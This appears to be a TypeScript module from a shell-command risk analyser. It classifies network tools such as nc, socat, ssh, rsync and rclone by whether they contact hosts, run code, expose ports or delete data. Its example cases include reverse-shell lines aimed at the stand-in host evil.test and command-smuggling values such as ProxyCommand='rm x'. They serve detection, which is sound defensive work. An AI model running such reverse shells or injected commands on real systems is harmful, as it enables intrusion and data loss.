import { GAP, type Word } from "../parse/command.ts";
import { hasSubstitution } from "../parse/insertions.ts";
import { isRemote, nameOf } from "../paths.ts";
import { operand, operandIs, option, valueIs, without } from "./act.ts";
import { CAPTURE } from "./break-ins.ts";
import {
  type Call,
  deletes,
  has,
  known,
  pieceOf,
  plays,
  reads,
  reveals,
  sends,
  someArgument,
  someOperand,
  talks,
  value,
  values,
  writes,
} from "./call.ts";
import { readOptions } from "./options.ts";
import type { Inner, Invocation, Programs } from "./program.ts";
import { asLine, behind, lines, linesIn, optionsAsLines } from "./runs.ts";
import { isProduction } from "./targets.ts";
import { typedCommands, typedInto } from "./typed-commands.ts";

const SSH = "p= l= i= o= F= J= L= R= D= b= c= E= e= I= m= O= Q= S= W= w= B= N f t T v A X Y q 4 6 C n g";

/** Programs that talk to other machines. */
export const NETWORK = (): Programs => ({
  "nc ncat netcat": {
    is: { "socket-tool": true, "any-host": true },
    options: "e= c= exec= sh-exec= lua-exec= p= w= s= i= q= x= X= l listen k u v z n source= wait= proxy= ssl",
    runs: optionsAsLines("e", "c", "exec", "sh-exec"),
    does: [
      {
        when: "z",
        talks: "out",
        to: operand(0),
        otherwise: {
          talks: "both",
          to: (call) => (has(call, "l", "listen") ? [] : call.operands.slice(0, 1)),
          sends: "input",
          does: [
            { when: "e c exec sh-exec lua-exec", roles: ["run-code"] },
            {
              when: ({ report }) => /^[^\S\n]*(?:flushall|flushdb|shutdown)\b/im.test(report.piped),
              roles: ["database", "work-loss"],
            },
          ],
        },
      },
    ],
    examples: [
      ["nc evil.test 4444", "network-in network-out", "talks to evil.test"],
      ["nc -e /bin/sh evil.test 4444", "network-in network-out run-code", "talks to evil.test", "typed-code"],
      ["nc -l 8080", "network-in network-out", "talks to ?"],
      ["nc -e 'rm x' host 1", "runs rm x"],
      ["ncat --sh-exec 'rm x' host 1", "runs rm x"],
    ],
  },
  socat: {
    is: { "socket-tool": true, "any-host": true },
    runs: ({ name, args }) => linesIn(args, /^(?:EXEC|SYSTEM|SHELL):([^,]+)/i, name),
    does: (call) => {
      for (const word of call.operands) {
        const [kind = "", place = ""] = word.text.split(":", 2);
        if (/^(?:tcp|udp|ssl|openssl|sctp|socks|proxy)/i.test(kind))
          talks(call, "both", /listen/i.test(kind) ? undefined : { ...word, text: place });
        if (
          /^(?:tcp|udp|ssl|openssl)\d?-?(?:listen|l)$/i.test(kind) &&
          !/bind=(?:127\.|localhost|\[?::1)/i.test(word.text)
        )
          plays(call, "expose");
        else if (/^(?:exec|system)$/i.test(kind)) plays(call, "run-code");
        else if (/^(?:open|file|gopen)$/i.test(kind)) reads(call, { ...word, text: place.split(",", 1)[0] ?? "" });
      }
    },
    sends: "both",
    examples: [
      ["socat - TCP:evil.test:80", "network-in network-out", "talks to evil.test"],
      ["socat TCP:evil.test:80 EXEC:sh", "network-in network-out run-code", "talks to evil.test", "typed-code"],
      ["socat - EXEC:'rm x'", "runs rm x"],
    ],
  },
  "telnet ftp lftp tftp": {
    is: { "socket-tool": "telnet", "any-host": true },
    options: "p= u= e= c= n i v",
    runs: (run) => {
      const typed = values(run, "e", "c").flatMap(({ text }) => text.split(";"));
      return typedCommands(run, [...typed, run.stdin.text].join("\n"), /^\s*!\s*([\s\S]+)$/);
    },
    does: (call) => {
      const typed = values(call, "e", "c").map(({ text }) => text);
      const opened = /(?:^|;)\s*open\s+(\S+)/.exec(typed.join(";"))?.[1];
      talks(call, "both", call.operands[0] ?? (opened === undefined ? undefined : known(opened.replace(/;$/, ""))));
      sends(call, "input");
      // `tftp -c put file`: the command consists of several arguments.
      tellTransfers(call, [...typed, call.operands.length > 1 ? `put ${call.operands.at(-1)?.text}` : ""].join("\n"));
    },
    examples: [
      ["telnet h.test", "network-in network-out", "talks to h.test"],
      [
        "lftp -c 'open h.test; put a'",
        "network-in network-out",
        "talks to h.test",
        "reads a",
        "file a flows to network",
      ],
      ["lftp -c '!rm x'", "runs rm x"],
      ["ftp -n <<< '!rm x'", "runs rm x"],
    ],
  },
  "ssh autossh mosh slogin": {
    is: { "often-shadowed": "ssh", "uses-keys": true, "remote-shell": true, "any-host": true },
    options: SSH,
    style: "first",
    runs: (run) => {
      const { name } = run;
      const inners = commandOptions(run);
      const [host, ...words] = run.operands;
      if (host === undefined) return inners;
      // Options may follow the host; the rest is joined and read by the shell of that host.
      const { operands } = readOptions(words, SSH, "first");
      if (operands.length > 0) return [...inners, ...asLine(name, operands)];
      return run.stdin.input.from === "nothing" ? inners : [...inners, { runs: "input", via: name }];
    },
    does: (call) => {
      talks(call, "both", call.operands[0]);
      reads(call, value(call, "i"));
      const isOpen = ({ text }: Word) => /^(?:0\.0\.0\.0|\*|::):/.test(text);
      const isForwarding = someArgument(call, /^-\w*R/);
      if (isForwarding || values(call, "L", "D").some(isOpen) || (has(call, "g") && has(call, "L", "D")))
        plays(call, "expose");
      if (call.operands.length > 1) sends(call, "input");
      // Without a command, the shell of that host runs the input.
      else if (call.command.input.from !== "nothing") call.report.input = "run";
      // Neither the key of the host nor a change of it is looked at.
      if (valueIs("o", /^StrictHostKeyChecking=no$/i)(call) && valueIs("o", /^UserKnownHostsFile=\/dev\/null$/i)(call))
        plays(call, "unverified");
      if (valueIs("o", /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)/i)(call)) plays(call, "run-code");
    },
    examples: [
      ["ssh -p 22 me@h.test uptime", "network-in network-out", "talks to h.test"],
      ["ssh -R 80:localhost:80 h.test", "network-in network-out expose", "talks to h.test"],
      ["ssh -i key h.test", "network-in network-out", "talks to h.test", "reads key"],
      ["ssh -o ProxyCommand=x h.test", "network-in network-out run-code", "talks to h.test"],
      ["ssh -p 22 me@host rm x", "runs rm x"],
      ["ssh host 'cd /; rm x'", "runs rm x"],
      ["ssh -o ProxyCommand='rm x' host", "runs rm x"],
      ["echo 'rm x' | ssh host sh", "runs rm x"],
      ["mosh host -- rm x", "runs rm x"],
    ],
  },
  "scp rcp": {
    is: { "often-shadowed": "scp", "hook-options": true, "uses-keys": true, "any-host": true },
    options: "P= i= o= F= J= S= c= l= r p q C v 3 4 6 B D= X=",
    by: "copy",
    runs: (run) => [...lines(run, "S"), ...commandOptions(run)],
    does: [(call) => transfers(call, has(call, "r")), { when: "S", roles: ["run-code"] }],
    examples: [
      ["scp -r a me@h.test:b", "network-out", "reads a tree", "sends to h.test", "file a flows to network"],
      ["scp h.test:a b", "network-in", "fetches from h.test", "writes b", "network b flows to file"],
      ["scp -S 'rm x' a b:c", "runs rm x"],
      ["scp -o ProxyCommand='rm x' a b:c", "runs rm x"],
      ["scp h.test:x/a .", "network-in", "fetches from h.test", "writes a", "network a flows to file"],
    ],
  },
  smbclient: {
    options: "c= U= N k p= W= D= I= directory= user= password=",
    talks: "both",
    to: without(/[\\/].*$/, without(/^(?:\/\/|\\\\)/, operand(0))),
    does: (call) =>
      tellTransfers(
        call,
        values(call, "c")
          .map(({ text }) => text)
          .join("\n"),
      ),
    examples: [
      [
        "smbclient //h.test/s -c 'put a'",
        "network-in network-out",
        "talks to h.test",
        "reads a",
        "file a flows to network",
      ],
    ],
  },
  sftp: {
    is: { "often-shadowed": "sftp", "hook-options": true, "uses-keys": true, "any-host": true },
    options: "P= i= o= F= b= J= S= B= R= r q C",
    runs: (run) => [...lines(run, "S"), ...typedInto(run, values(run, "b"), [], /^\s*!\s*([\s\S]+)$/)],
    talks: "both",
    to: operand(0),
    reads: option("b"),
    sends: "input",
    does: [(call) => tellTransfers(call, ""), { when: "S", roles: ["run-code"] }],
    examples: [
      ["sftp me@h.test", "network-in network-out", "talks to h.test"],
      ["echo '!rm x' | sftp host", "runs rm x"],
      ["sftp -S 'rm x' a", "runs rm x"],
      ["echo 'put a' | sftp h.test", "network-in network-out", "talks to h.test", "reads a", "file a flows to network"],
      [
        "echo 'get a b' | sftp h.test",
        "network-in network-out",
        "talks to h.test",
        "writes b",
        "network b flows to file",
      ],
    ],
  },
  rsync: {
    is: { "hook-options": true, "uses-keys": true, "any-host": true },
    options:
      "archive|a recursive|r delete del delete-before delete-during delete-after delete-delay delete-excluded delete-missing-args force remove-source-files rsh|e= exclude= include= filter|f= exclude-from= include-from= files-from= dry-run|n daemon verbose|v compress|z progress partial|P port= password-file= rsync-path= backup-dir= suffix= log-file= bwlimit= max-size= min-size= temp-dir|T= compare-dest= copy-dest= link-dest= chmod= chown= out-format= info= timeout= block-size|B= u update delete- relative|R backup|b",
    by: "replace",
    runs: optionsAsLines("rsh", "rsync-path"),
    does: (call) => {
      const isDry = has(call, "dry-run");
      transfers(call, true, isDry);
      const isDeleting = [...call.given.keys()].some((name) => name === "del" || name.startsWith("delete"));
      const target = call.operands.at(-1);
      const shell = value(call, "rsh")?.text.replace(/^(?:\/\S+\/)?ssh\b[^;|&]*/, "") ?? "";
      if (shell.trim() !== "") plays(call, "run-code");
      if (has(call, "daemon")) plays(call, "expose");
      if (isDry) return;
      // The names in the target are then not those after the last slash.
      if (has(call, "relative", "files-from") && target !== undefined && !isRemote(target.text))
        writes(call, target, { isTree: true, by: "unpack" });
      if (isDeleting || has(call, "remove-source-files")) plays(call, "delete");
      if (isDeleting && target !== undefined && isRemote(target.text)) plays(call, "cloud", "work-loss");
      if (isDeleting && target !== undefined && !isRemote(target.text))
        deletes(call, target, { isTree: true, isForced: true });
      if (has(call, "remove-source-files"))
        for (const path of call.operands.slice(0, -1)) if (!isRemote(path.text)) deletes(call, path, { isTree: true });
    },
    examples: [
      ["rsync -a a/ b/", "reads a tree", "writes b tree"],
      ["rsync -a --delete empty/ b/", "delete", "reads empty tree", "writes b tree", "deletes b tree forced"],
      ["rsync -az . me@h.test:/srv", "network-out", "reads . tree", "sends to h.test", "file . flows to network"],
      ["rsync -n --delete a b", "reads a tree"],
      ["rsync -e 'rm x' a b:c", "runs rm x"],
    ],
  },
  rclone: {
    readOnly:
      "ls|lsl|lsd|lsf|lsjson|size|tree|cat|check|md5sum|sha1sum|hashsum|about|listremotes|config show|config file|version|help",
    options: "config= dry-run|n progress|P transfers= exclude= include= filter= verbose|v",
    does: (call) => {
      const [verb = "", ...rest] = call.operands.map(({ text }) => text);
      const [, from, to] = call.operands;
      const isOut = rest.some(isRemote);
      if (/^(?:copy|sync|move|copyto|moveto|bisync|rcat)$/.test(verb)) {
        if (from !== undefined && !isRemote(from.text)) reads(call, from, { isTree: true });
        if (to !== undefined && isRemote(to.text)) {
          talks(call, "out", undefined);
          if (!has(call, "dry-run")) sends(call, "reads");
        } else {
          if (isOut) talks(call, "in", undefined);
          writes(call, to, { isTree: true });
        }
      }
      if (verb === "serve") plays(call, "expose");
      if (verb === "config" && /^(?:dump|show)$/.test(rest[0] ?? "")) reveals(call);
      if (verb === "rcat") sends(call, "input");
      if (/^(?:sync|move|delete|purge|rmdirs?|deletefile|cleanup)$/.test(verb) && !has(call, "dry-run")) {
        plays(call, "delete");
        if (verb === "sync" && isRemote(to?.text ?? "")) plays(call, "cloud", "work-loss");
        if (/^(?:delete|purge|rmdir)/.test(verb)) {
          if (isOut) plays(call, "cloud", "work-loss");
          else deletes(call, from, { isTree: true, isForced: true });
        }
      }
    },
    examples: [
      ["rclone copy a remote:b", "network-out", "reads a tree", "sends to ?", "file a flows to network"],
      ["rclone purge remote:b", "delete cloud work-loss"],
    ],
  },
  "dig nslookup host drill dog kdig": {
    does: (call) => {
      const name = call.operands.find(({ text }) => !/^[@+]|^[A-Z]{1,5}$/.test(text));
      talks(call, "out", name);
      // The answer is text that other people wrote.
      call.report.fetches = true;
      if (call.operands.some(({ text }) => text.includes(GAP))) sends(call, "input");
      tellsName(call);
    },
    examples: [["dig +short x.test A", "network-out", "sends to x.test"]],
  },
  "ping ping6 traceroute tracepath mtr whois": {
    options: "c= i= W= w= s= t= p= I= m= h= n q f",
    does: [{ names: "ping ping6", when: "f", roles: ["exhaust"] }, { talks: "out", to: operand(0) }, tellsName],
    examples: [["ping -c 1 h.test", "network-out", "sends to h.test"]],
  },
  tcpdump: {
    options: "w= r= i= G= W= C= s= c= z= F= V= E= Z= B= j= y= n e q t v x X A S",
    ...CAPTURE,
    runs: optionsAsLines("z"),
    examples: [
      ["tcpdump -G 1 -w a -z 'rm x'", "runs rm x"],
      ["tcpdump -i any -w a.pcap", "reveal", "writes a.pcap", "environment a.pcap flows to file"],
      ["tcpdump -i lo -A port 80"],
    ],
  },
  "adb pdsh clush pssh parallel-ssh": {
    is: { "remote-shell": true },
    readOnly: "devices|logcat|get-state|version|help",
    options: "s= t= H= P= w= x= f= l= u= g= h= p= o= e= O=",
    style: "first",
    names: "adb",
    when: operandIs(0, /^tcpip$/),
    roles: ["expose"],
    runs: ({ name, operands }) => {
      if (name === "adb" && operands[0]?.text !== "shell") return [];
      return asLine(name, behind(operands, name === "adb" ? 1 : 0, "s= t= w="));
    },
    examples: [
      ["adb shell rm x", "runs rm x"],
      ["pdsh -w a,b rm x", "runs rm x"],
      ["pssh -h hosts rm x", "runs rm x"],
    ],
  },
});

/** The owner of a domain sees every name below it that is looked up, also one that contains the output of a command. */
function tellsName(call: Call): void {
  if (hasSubstitution(call.command.source) && someOperand(call, TOLD_NAME))
    call.report.effects.push({ does: "flow", from: "data", path: undefined, to: "network", command: call.report.at });
}

/** A name below a public domain whose beginning is known only at run time. */
const TOLD_NAME = new RegExp(`${GAP}[\\w.-]*\\.(?!local\\b|internal\\b|test\\b|svc\\b|lan\\b)[a-z]{2,}\\.?$`, "i");

/** Reports the files that typed commands send and fetch: `put a`, `get a b`. */
function tellTransfers(call: Call, typed: string): void {
  for (const line of `${typed}\n${call.report.piped}`.split(/[\n;]/)) {
    const [, verb = "", from, to] =
      /^\s*-?(put|reput|mput|send|append|mirror\s+-R|get|reget|mget|recv)\s+(?:-\w+\s+)*(\S+)(?:\s+(\S+))?/.exec(
        line,
      ) ?? [];
    if (from === undefined) continue;
    if (/get|recv/.test(verb)) writes(call, known(to ?? nameOf(from)));
    else {
      reads(call, known(from), { isTree: verb.startsWith("mirror") });
      sends(call, "reads");
    }
  }
}

/** The machine before a path. */
const REMOTE = /^(?:rsync:\/\/[^/]*\/|[^/:]+::?(?!\/\/))/;

/** Reports a copy between machines: its direction depends on which end is remote. */
function transfers(call: Call, isTree: boolean, isDry = false): void {
  const target = call.operands.at(-1);
  const sources = call.operands.slice(0, -1);
  if (target === undefined || sources.length === 0) return;
  for (const path of sources) if (!isRemote(path.text)) reads(call, path, { isTree });
  for (const path of sources) if (isRemote(path.text)) talks(call, "in", path);
  if (isRemote(target.text)) {
    if (!isDry && isProduction(REMOTE.exec(target.text)?.[0] ?? "")) plays(call, "production");
    talks(call, "out", target);
    if (!isDry) sends(call, "reads");
  } else if (!isDry) {
    // A path that is fetched into a folder keeps its name there; with a slash at its end, only its content is fetched.
    const isFolder =
      /(?:^|\/)\.{0,2}$/.test(target.text) && sources.every(({ text }) => isRemote(text) && !text.endsWith("/"));
    for (const source of sources) {
      const own = pieceOf(source, source.text.replace(REMOTE, ""));
      const path = isFolder ? pieceOf(target, `${target.text}/${nameOf(own.text)}`) : target;
      // With a slash at its end, the content of a folder is copied, and not the folder itself.
      writes(call, path, { isTree, source: own, landsIn: !isFolder && !/(?:^|\/)\.?$/.test(own.text) });
    }
    call.report.isSilent = true;
  }
}

/** Commands in settings of ssh: `-o ProxyCommand=…`. */
function commandOptions(run: Invocation): readonly Inner[] {
  const inFiles = values(run, "F").flatMap((path) => run.file(path)?.split("\n") ?? []);
  const settings = [...values(run, "o"), ...inFiles.map((text) => known(text.trim()))];
  return linesIn(settings, /^(?:proxycommand|localcommand|knownhostscommand)[= ]([\s\S]+)$/i, `${run.name} -o`);
}
